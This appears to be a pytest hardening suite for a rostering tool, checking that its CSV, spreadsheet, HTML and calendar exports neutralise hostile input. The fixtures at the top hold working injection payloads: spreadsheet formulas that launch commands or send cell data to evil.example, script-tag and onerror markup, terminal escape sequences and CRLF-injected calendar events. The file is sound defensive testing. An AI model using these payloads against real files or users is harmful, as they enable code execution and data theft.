"""Hostile text through every command that writes CSV, xlsx, HTML or iCal, each output
opened with what a user opens it with (csv, openpyxl, a browser's HTML parser, icalendar
and ical): no formula, script, event handler, injected calendar line or terminal escape
survives.

Hostile text reaches s92 two ways: names that pass validation (formula starts, markup,
quotes, long text) and entries logged through the API or before s92 refused control
characters (tabs, carriage returns, escape sequences, NUL, injected iCal lines).
"""

from __future__ import annotations

import csv
import re
from datetime import date, time, timedelta
from pathlib import Path

import html5lib
import openpyxl
import pytest
from hardening_helpers import SOLVE, Run, run_captured, tiny_toml
from ical.calendar_stream import IcsCalendarStream
from icalendar import Calendar, Event

from scheduler.check import check_roster, read_roster_csv
from scheduler.files import FORMULA_STARTS
from scheduler.scenario import load_scenario
from scheduler.store import NewAbstraction, Store

NAMES = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "council": "+cmd|' /C calc'!A0",
    "bcu": "@SUM(1+1)*cmd|' /C calc'!A0",
    "shift_name": "<script>alert('s92')</script>",
    "hdd_name": "=1+1<img src=x onerror=alert(1)>",
    "description": "-2+3 </style><script>alert(2)</script> " + "long text " * 150,
}
REASONS = [
    "=1+1",
    "\t=cmd|' /C calc'!A0",
    "\r=2+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\x1b[31mred\x1b]0;owned\x07\x1b[0m",
    "nul\x00byte",
    "<script>alert('reason')</script>",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "+" + "A" * 10_000,
]
ESCAPE = "\x1b"
# roster.xlsx's totals, cover rows and hours: COUNTIF/SUM/SUMPRODUCT over cell ranges and
# quoted tour codes, never a user's text
S92_FORMULA = re.compile(r'=(SUM\(COUNTIF|COUNTIF|SUMPRODUCT)\([A-Za-z0-9$:,"{}()*=!_-]*\)')


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Run]]:
    """Every writing command run on the hostile scenario and store; the folder and runs."""
    root = tmp_path_factory.mktemp("hostile")
    scenario = root / "hostile.toml"
    scenario.write_text(tiny_toml(**NAMES), encoding="utf-8")
    db = root / "s92.db"
    runs = [
        run_captured("validate", scenario),
        run_captured(
            "roster", scenario, "--out", root / "roster", "--publish", "--ical", "--db", db, *SOLVE
        ),
    ]
    with Store(db) as store:  # as the API, or an s92 before the checks, logged them
        store.add_many(_entries())
    runs += [
        run_captured("abstract", "list", "--db", db),
        _to_file(run_captured("abstract", "list", "--csv", "--db", db), root / "list.csv"),
        run_captured(
            "reroster",
            scenario,
            "--from",
            "2026-10-06",
            "--out",
            root / "re",
            "--db",
            db,
            "--publish",
            "--notices",
            root / "re" / "notices",
        ),
        run_captured(
            "report", scenario, "--period", "2026-10", "--out", root / "report", "--db", db
        ),
        run_captured("check", scenario, root / "re" / "roster.csv", "--csv", root / "check.csv"),
        run_captured("ical", scenario, root / "re" / "roster.csv", "--out", root / "cal"),
        run_captured(
            "sweep",
            scenario,
            "--runs",
            "3",
            "--roster",
            root / "re" / "roster.csv",
            "--out",
            root / "sweep",
            "--quiet",
        ),
    ]
    hostile_ics = root / "announced.ics"
    hostile_ics.write_bytes(_ics_with_summary(NAMES["hdd_name"].replace("=1+1", "=2+2")))
    runs += [
        run_captured("calendar", "2026", "--import", hostile_ics, "--ics", root / "hdd.ics"),
        run_captured("calendar", "--import", hostile_ics, "--scenario-snippet"),
    ]
    return root, runs


def _entries() -> list[NewAbstraction]:
    officers = ["T-C0", "T-C1", "T-S0"]
    return [
        NewAbstraction(
            officers[i % 3],
            "T1",
            date(2026, 10, 8) + timedelta(i // 3 * 2),
            date(2026, 10, 8) + timedelta(i // 3 * 2),
            "court",
            reason,
            "Insp Lane",
            date(2026, 9, 1),
            time(9),  # own times: a court day kept on any day, rest days included
            time(17),
        )
        for i, reason in enumerate(REASONS)
    ]


def _ics_with_summary(summary: str) -> bytes:
    cal = Calendar()
    cal.add("prodid", "-//test//hostile//EN")
    cal.add("version", "2.0")
    event = Event()
    event.add("summary", summary)
    event.add("dtstart", date(2026, 6, 13))
    event.add("uid", "hostile@test")
    cal.add_component(event)
    return cal.to_ical()


def _to_file(result: Run, path: Path) -> Run:
    path.write_text(result.out, encoding="utf-8")
    return result


def test_every_command_succeeds_and_prints_no_escape(outputs: tuple[Path, list[Run]]) -> None:
    _, runs = outputs
    for result in runs:
        assert result.code == 0, result.err
        assert ESCAPE not in result.out
        assert ESCAPE not in result.err
        assert "\x00" not in result.out
        assert "\x07" not in result.out
    listing = runs[2].out
    assert "\\x1b[31mred" in listing  # shown for what it is


def test_the_rosters_are_lawful(outputs: tuple[Path, list[Run]]) -> None:
    root, _ = outputs
    scenario = load_scenario(root / "hostile.toml")
    for roster in (root / "roster" / "roster.csv", root / "re" / "roster.csv"):
        assert check_roster(scenario, read_roster_csv(roster)).breaches == []


def test_no_csv_cell_is_a_formula(outputs: tuple[Path, list[Run]]) -> None:
    root, _ = outputs
    files = sorted(root.rglob("*.csv"))
    names = {p.name for p in files}
    assert {"roster.csv", "changes.csv", "list.csv", "check.csv", "report.csv"} <= names
    assert {"sweep.csv", "runs.csv"} <= names
    neutralised = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        width = len(rows[0])
        for row in rows:
            assert len(row) == width, (path, row)  # no cell split a row
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (path, cell[:40])
                neutralised += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
    assert neutralised >= len(REASONS)  # the hostile text did come through, made safe
    changes = (root / "re" / "changes.csv").read_text(encoding="utf-8")
    # each change's reason quotes its entry's: the hostile text comes through, inside a cell
    assert "at court: @SUM(A1:A9) (entry" in changes
    assert "at court: -1+2 (entry" in changes


def test_no_workbook_cell_is_a_formula(outputs: tuple[Path, list[Run]]) -> None:
    root, _ = outputs
    books = sorted(root.rglob("*.xlsx"))
    assert {p.name for p in books} == {"roster.xlsx", "report.xlsx"}
    seen = set()
    for path in books:
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":  # only s92's own counts and sums over cells
                        assert isinstance(cell.value, str), (path, sheet.title, cell.value)
                        own = cell.value.replace("'s92-data'", "")  # the hidden data sheet
                        assert S92_FORMULA.fullmatch(own), (path, sheet.title, cell.value)
                        continue
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert any(NAMES["council"] in text for text in seen)  # stored as text, shown as written


def test_the_report_page_runs_nothing(outputs: tuple[Path, list[Run]]) -> None:
    root, _ = outputs
    text = (root / "report" / "report.html").read_text(encoding="utf-8")
    document = html5lib.parse(text, namespaceHTMLElements=False)
    elements = list(document.iter())
    assert not [e for e in elements if e.tag in ("script", "iframe", "object", "embed")]
    for element in elements:
        for attribute, value in element.attrib.items():
            assert not attribute.lower().startswith("on"), (element.tag, attribute)
            if attribute in ("src", "href"):
                assert value.startswith("data:image/png;base64,"), value[:60]
    shown = "".join(document.itertext())
    assert NAMES["name"] in shown  # the name is there, as text


def test_the_officers_change_notices_run_nothing(outputs: tuple[Path, list[Run]]) -> None:
    root, _ = outputs
    pages = sorted((root / "re" / "notices").glob("*.html"))
    assert len(pages) == 4  # three officers and the index
    shown = ""
    for page in pages:
        document = html5lib.parse(page.read_text(encoding="utf-8"), namespaceHTMLElements=False)
        elements = list(document.iter())
        assert not [e for e in elements if e.tag in ("script", "iframe", "object", "embed")]
        for element in elements:
            for attribute, value in element.attrib.items():
                assert not attribute.lower().startswith("on"), (element.tag, attribute)
                if attribute == "href":
                    assert re.fullmatch(r"notice-[A-Za-z0-9_.-]+\.html", value), value
        shown += "".join(document.itertext())
    assert NAMES["name"] in shown
    assert "at court: <script>alert('reason')</script>" in shown


def _unfolded_lines(text: str) -> list[str]:
    return text.replace("\r\n ", "").split("\r\n")


def test_every_calendar_reads_back_with_no_injected_event(outputs: tuple[Path, list[Run]]) -> None:
    root, _ = outputs
    calendars = sorted(root.rglob("*.ics"))
    assert len(calendars) >= 2 * (3 + 1 + 1) + 1  # officers, contract, HDDs; twice; and hdd.ics
    for path in calendars:
        raw = path.read_bytes()
        text = raw.decode("utf-8")
        assert all(len(line.encode()) <= 75 for line in text.split("\r\n")), path
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text), path
        parsed = Calendar.from_ical(raw)
        events = parsed.walk("VEVENT")
        assert len(events) == _unfolded_lines(text).count("BEGIN:VEVENT"), path
        assert not [e for e in events if str(e.get("SUMMARY")) == "injected"]
        assert len(IcsCalendarStream.calendar_from_ics(text).events) == len(events)
    officer = (root / "cal" / "officers" / "T-C1.ics").read_text(encoding="utf-8")
    assert "Court: <script>alert('reason')</script>" in officer  # as text
